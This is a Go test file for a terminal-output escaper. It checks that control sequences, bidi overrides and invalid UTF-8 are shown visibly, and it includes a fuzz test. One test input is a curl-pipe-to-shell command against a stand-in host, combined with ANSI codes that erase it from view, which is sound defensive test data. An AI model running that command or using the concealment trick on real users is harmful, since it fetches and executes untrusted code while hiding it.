package termsafe

import (
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/stretchr/testify/assert"
)

func TestEscape(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{"curl -s http://evil.invalid/x | sh \x1b[2K\x1b[1A\x1b[2K\rbuild = make", `curl -s http://evil.invalid/x | sh \x1b[2K\x1b[1A\x1b[2K\rbuild = make`},
		{"line one\nline\ttwo", "line one\nline\ttwo"},
		{"bell\a del\x7f nul\x00", `bell\x07 del\x7f nul\x00`},
		{"c1 \u0085 \u009b", `c1 \u0085 \u009b`},
		{"rtl \u202eevil\u202c \u2066x\u2069 \u200f", `rtl \u202eevil\u202c \u2066x\u2069 \u200f`},
		{"sep \u2028 \u2029", `sep \u2028 \u2029`},
		{"bad \xff\xfe utf-8", `bad \xff\xfe utf-8`},
		// What reports print on purpose stays: no-break spaces, word
		// joiners, µ, Δ, box rules.
		{"-58.9\u2060…\u2060-42.3% ControlPlane\u00a0* µs Δ ─", "-58.9\u2060…\u2060-42.3% ControlPlane\u00a0* µs Δ ─"},
	} {
		assert.Equal(t, tc.want, Escape(tc.in), "%q", tc.in)
		assert.Equal(t, tc.in != tc.want, Needs(tc.in), "%q", tc.in)
	}
}

func TestEscapeJSON(t *testing.T) {
	t.Parallel()
	js := "{\"a\": \"x\u202ey \u0085 \\u001b ok µ\"}"
	got := EscapeJSON(js)
	assert.Equal(t, `{"a": "x\u202ey \u0085 \u001b ok µ"}`, got)
	var v map[string]string
	require.NoError(t, json.Unmarshal([]byte(got), &v))
	assert.Equal(t, "x\u202ey \u0085 \x1b ok µ", v["a"])
}

func FuzzEscape(f *testing.F) {
	f.Add("x\x1b[2K\ry")
	f.Add("\u202e\xff")
	f.Fuzz(func(t *testing.T, s string) {
		e := Escape(s)
		assert.False(t, Needs(e), "%q escaped to %q", s, e)
	})
}
